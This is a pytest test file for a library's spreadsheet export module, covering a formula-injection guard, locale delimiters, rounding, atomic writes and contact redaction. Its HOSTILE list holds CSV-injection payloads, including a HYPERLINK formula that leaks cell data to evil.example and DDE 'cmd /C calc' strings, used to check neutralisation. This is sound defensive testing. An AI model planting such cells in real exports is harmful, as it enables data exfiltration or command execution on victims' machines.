"""libcommunity/export.py: the one writer of spreadsheet files (formula guard, locale, rounding, workbooks)."""

from __future__ import annotations

import csv
import io
import os

import numpy as np
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from libcommunity import export, export_xlsx
from libcommunity.errors import ParameterError
from libcommunity.export import (
    csv_dialect,
    needs_guard,
    neutralise_csv_cell,
    safe_csv_frame,
    write_lists,
    write_safe_csv,
    write_xlsx,
)

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+1",
    "-2+3",
    "-2",
    "@SUM(A1)",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@A1|x",
    "@'http://evil.example/[x.xlsx]Sheet1'!A1",
    "@a b",
    "@a+b",
    "@",
    "@@a",
    "\tx",
    "\rx",
    "\x00x",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "=cmd|' /C calc'!A0",
]
HANDLES = ["@ana", "@ana_lee", "@ana.lee", "@ana-lee", "@ana@mastodon.social", "@sören@mastodonsweden.se",
           "@biblio.bsky.social", "@_x1"]


def read_csv(path, delimiter=","):
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(raw[3:].decode("utf-8"), newline=""), delimiter=delimiter))


def test_there_is_one_implementation():
    import libcommunity.segments as segments

    assert not hasattr(segments, "write_safe_csv") and not hasattr(segments, "csvsafe")  # no second way in


# ---------------------------------------------------------------------- the guard
@pytest.mark.parametrize("bad", HOSTILE)
def test_every_formula_start_is_neutralised(bad):
    assert needs_guard(bad)
    assert neutralise_csv_cell(bad) == "'" + bad


@pytest.mark.parametrize("handle", HANDLES)
def test_a_whole_handle_is_left_as_it_is(handle):
    assert not needs_guard(handle)
    assert neutralise_csv_cell(handle) == handle


def test_numbers_are_numbers_and_harmless_text_untouched():
    assert neutralise_csv_cell(-5) == "-5"
    assert neutralise_csv_cell(-0.25, decimal=",") == "-0,25"
    assert neutralise_csv_cell(True) == "true"
    assert neutralise_csv_cell("a=b") == "a=b" and neutralise_csv_cell("hola") == "hola"
    assert [neutralise_csv_cell(v) for v in (None, np.nan, pd.NA, pd.NaT)] == ["", "", "", ""]
    assert neutralise_csv_cell(pd.Timestamp("2025-10-01T10:00Z")) == "2025-10-01T10:00:00+00:00"


@settings(max_examples=300, deadline=None)
@given(st.lists(st.text(), min_size=1, max_size=30))
def test_vectorised_guard_is_the_cell_rule(texts):
    frame = pd.DataFrame({"x": pd.array(texts, dtype="string")})
    assert safe_csv_frame(frame)["x"].tolist() == [neutralise_csv_cell(t) for t in texts]


@settings(max_examples=200, deadline=None)
@given(st.lists(st.text(), min_size=1, max_size=20), st.sampled_from(["en", "es"]))
def test_written_text_reads_back_as_written_or_guarded(tmp_path_factory, texts, lang):
    path = tmp_path_factory.mktemp("h") / "x.csv"
    write_safe_csv(pd.DataFrame({"x": pd.array(texts, dtype="string")}), path, lang=lang, reveal=True)
    rows = read_csv(path, csv_dialect(lang)[0])
    assert rows[0] == ["x"]
    for original, (cell,) in zip(texts, rows[1:]):
        assert not needs_guard(cell)
        assert cell == ("'" + original if needs_guard(original) else original)


# ---------------------------------------------------------------------- locale, numbers, quoting
def test_the_locale_chooses_delimiter_and_decimal_separator():
    assert csv_dialect("en") == (",", ".")
    assert csv_dialect("es") == (";", ",")
    assert csv_dialect("sv", "Europe/Stockholm") == (";", ",")
    assert csv_dialect("es", "America/Mexico_City") == (",", ".")  # Mexico writes decimals with a point


def test_file_has_bom_crlf_locale_numbers_and_rounding(tmp_path):
    frame = pd.DataFrame({
        "member": ["m_1", "m_2", "m_3"],
        "p_active": [0.995608, 0.12345, np.nan],
        "days": [1.794224537, -0.04, 767.21653],
        "ratio": [0.1305324074074074, np.inf, 2.0],
        "n": pd.array([3, -1, None], dtype="Int64"),
        "ok": [True, False, True],
    })
    path = write_safe_csv(frame, tmp_path / "m.csv", lang="es", percent=["p_active"], decimals={"days": 1})
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbfmember;p_active (%);days;ratio;n;ok\r\n")
    assert raw.decode("utf-8-sig").split("\r\n") == [
        "member;p_active (%);days;ratio;n;ok",
        "m_1;99,6;1,8;0,13;3;true",
        "m_2;12,3;0;;-1;false",  # -0.04 rounds to 0 (not -0); infinity is no number: empty
        "m_3;;767,2;2;;true",
        "",
    ]


def test_cells_with_delimiter_quote_or_line_break_are_quoted(tmp_path):
    texts = ["a;b", 'say "hi"', "two\nlines", "a,b", "plain"]
    path = write_safe_csv(pd.DataFrame({"t": texts}), tmp_path / "q.csv", lang="sv", reveal=True)
    assert path.read_bytes().decode("utf-8-sig") == 't\r\n"a;b"\r\n"say ""hi"""\r\n"two\nlines"\r\na,b\r\nplain\r\n'
    assert [r[0] for r in read_csv(path, ";")[1:]] == texts  # a comma needs no quotes when ";" delimits


def test_number_columns_are_written_unquoted_and_quoted_if_their_separator_delimits(tmp_path, monkeypatch):
    # Numbers, booleans and times skip the quoting check by their kind; a decimal separator equal to the
    # delimiter (which csv_dialect never gives) still gets every number cell that holds it quoted.
    frame = pd.DataFrame({"v": [0.25, 0.125, np.nan], "n": [1, -2, 3], "b": [True, False, True],
                          "t": pd.to_datetime(["2025-01-02 03:04:05", None, "2025-12-31 00:00:00"], utc=True)})
    path = write_safe_csv(frame, tmp_path / "n.csv", lang="sv")
    assert path.read_bytes().decode("utf-8-sig").split("\r\n")[1] == "0,25;1;true;2025-01-02T03:04:05+00:00"
    monkeypatch.setattr(export, "csv_dialect", lambda lang, timezone: (",", ","))
    path = write_safe_csv(frame, tmp_path / "c.csv", lang="sv", percent=("v",))
    lines = path.read_bytes().decode("utf-8-sig").split("\r\n")
    assert lines[1:4] == ["25,1,true,2025-01-02T03:04:05+00:00", '"12,5",-2,false,', ",3,true,2025-12-31T00:00:00+00:00"]
    assert [r[0] for r in read_csv(path, ",")[1:]] == ["25", "12,5", ""]


def test_column_names_are_guarded_too(tmp_path):
    path = write_safe_csv(pd.DataFrame({"=cmd": ["x"], "@ana": ["y"]}), tmp_path / "h.csv")
    assert read_csv(path)[0] == ["'=cmd", "@ana"]


def test_chunks_give_the_same_file(tmp_path, monkeypatch):
    frame = pd.DataFrame({"h": ["@a", "=b", "c;d", None] * 25, "v": np.linspace(-1, 1, 100), "n": range(100)})
    whole = write_safe_csv(frame, tmp_path / "whole.csv", lang="es").read_bytes()
    monkeypatch.setattr(export, "_CHUNK_ROWS", 7)
    assert write_safe_csv(frame, tmp_path / "parts.csv", lang="es").read_bytes() == whole


class _CountsDeepCopies:
    """An attrs value that counts how often pandas deep-copies it."""

    copies = 0

    def __deepcopy__(self, memo):
        type(self).copies += 1
        return self


def test_the_frame_attrs_are_not_copied_into_each_chunk_and_column(tmp_path, monkeypatch):
    monkeypatch.setattr(export, "_CHUNK_ROWS", 2)
    frame = pd.DataFrame({"member": ["a", "b", "c", "d", "e"], "n": [1, 2, 3, 4, 5]})
    frame.attrs = {"selection": _CountsDeepCopies()}
    expected = tmp_path / "plain.csv"
    write_safe_csv(frame.copy().pipe(lambda f: setattr(f, "attrs", {}) or f), expected)
    _CountsDeepCopies.copies = 0
    write_safe_csv(frame, tmp_path / "members.csv")
    assert _CountsDeepCopies.copies == 0
    assert (tmp_path / "members.csv").read_bytes() == expected.read_bytes()
    assert "selection" in frame.attrs  # the caller's frame keeps its attrs


def test_an_empty_list_is_a_header(tmp_path):
    path = write_safe_csv(pd.DataFrame({"a": pd.Series([], dtype="string"), "b": pd.Series([], dtype="float64")}),
                          tmp_path / "e.csv")
    assert path.read_bytes() == b"\xef\xbb\xbfa,b\r\n"


def test_mixed_object_columns_are_written_cell_by_cell(tmp_path):
    frame = pd.DataFrame({"x": pd.Series([1, "=1", 2.5, None, "@ana"], dtype=object)})
    assert [r[0] for r in read_csv(write_safe_csv(frame, tmp_path / "m.csv"))[1:]] == ["1", "'=1", "2.5", "", "@ana"]


def test_a_failed_write_leaves_the_old_file(tmp_path, monkeypatch):
    path = tmp_path / "out.csv"
    path.write_text("old\n")

    def boom(*a, **k):
        raise OSError("disk full")

    monkeypatch.setattr(os, "fsync", boom)
    with pytest.raises(OSError, match="disk full"):
        write_safe_csv(pd.DataFrame({"a": [1]}), path)
    assert path.read_text() == "old\n"
    assert os.listdir(tmp_path) == ["out.csv"]


def test_unknown_format_columns_are_an_error(tmp_path):
    with pytest.raises(ParameterError, match=r"columns \['nope'\] are not in the list"):
        write_safe_csv(pd.DataFrame({"a": [1.0]}), tmp_path / "x.csv", percent=["nope"])


# ---------------------------------------------------------------------- workbooks
openpyxl = pytest.importorskip("openpyxl", reason="openpyxl reads the workbook back (test extras)")


def test_workbook_has_one_sheet_per_list_numbers_as_numbers_and_no_formula(tmp_path):
    members = pd.DataFrame({"handle": ["@ana", "=HYPERLINK(\"http://x\")", "@SUM(A1)", None],
                            "p_active": [0.99561, 0.5, np.nan, 0.0], "n": pd.array([1, -3, None, 4], dtype="Int64"),
                            "days": [1.26, 2.0, 3.0, 4.0]})
    other = pd.DataFrame({"x": ["+1+1"]})
    (path,) = write_lists({"ambassadors": members, "drifting away": other}, tmp_path / "r.xlsx",
                          percent=["p_active"], decimals={"days": 1})
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["ambassadors", "drifting away"]
    sheet = book["ambassadors"]
    assert [c.value for c in sheet[1]] == ["handle", "p_active (%)", "n", "days"]
    a2, b2, c2, d2 = sheet[2]
    assert (a2.value, a2.quotePrefix) == ("@ana", False)
    assert b2.value == pytest.approx(0.996) and b2.number_format == "0.0%" and c2.value == 1 and d2.value == pytest.approx(1.3)
    hostile = [sheet["A3"], sheet["A4"], book["drifting away"]["A2"]]
    assert all(c.data_type == "s" and c.quotePrefix for c in hostile)
    assert [c.value for c in hostile] == ['=HYPERLINK("http://x")', "@SUM(A1)", "+1+1"]
    assert sheet["C3"].value == -3 and sheet["C4"].value is None and sheet["A5"].value is None


def test_a_list_longer_than_a_sheet_is_refused(tmp_path, monkeypatch):
    monkeypatch.setattr(export_xlsx, "EXCEL_MAX_ROWS", 3)
    with pytest.raises(ParameterError, match="an Excel sheet holds at most 2 .*write a .csv file instead"):
        write_xlsx({"m": pd.DataFrame({"a": range(3)})}, tmp_path / "x.xlsx")
    assert not (tmp_path / "x.xlsx").exists()


def test_write_lists_checks_the_file_name_and_splits_csv(tmp_path):
    with pytest.raises(ParameterError, match="expected a file name ending in .csv or .xlsx"):
        write_lists({"a": pd.DataFrame({"x": [1]})}, tmp_path / "a.txt")
    paths = write_lists({"ambassadors": pd.DataFrame({"x": [1]}), "ready to step up": pd.DataFrame({"y": [2]})},
                        tmp_path / "roster.csv")
    assert [p.name for p in paths] == ["roster-ambassadors.csv", "roster-ready_to_step_up.csv"]


def test_contact_details_are_redacted_in_workbooks_too_unless_reveal(tmp_path):
    frame = pd.DataFrame({"member": ["m_1"], "text": ["write to ana@x.se or ring 070-123 45 67"]})
    write_lists({"m": frame}, tmp_path / "a.xlsx")
    write_lists({"m": frame}, tmp_path / "b.xlsx", reveal=True)
    assert openpyxl.load_workbook(tmp_path / "a.xlsx")["m"]["B2"].value == "write to [email] or ring [tel]"
    assert openpyxl.load_workbook(tmp_path / "b.xlsx")["m"]["B2"].value == frame["text"][0]


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_verbatim_columns_are_not_redacted_but_still_guarded(tmp_path, suffix):
    # a post's link on Mastodon looks like a person's page to the profile rule; the library's own links stay
    frame = pd.DataFrame({"post_url": ["https://mastodon.social/@lib/1", "=cmd|' /C calc'!A0"],
                          "text": ["see https://mastodon.social/@ana", "ok"]})
    (path,) = write_lists({"todo": frame}, tmp_path / f"a{suffix}", verbatim=("post_url",))
    if suffix == ".csv":
        got = pd.read_csv(path, encoding="utf-8-sig", dtype=str)
    else:
        got = pd.DataFrame(openpyxl.load_workbook(path)["todo"].values).iloc[1:].set_axis(["post_url", "text"], axis=1)
    assert got["post_url"].tolist() == ["https://mastodon.social/@lib/1", "'=cmd|' /C calc'!A0" if suffix == ".csv" else "=cmd|' /C calc'!A0"]
    assert got["text"].tolist()[0] == "see [url]"
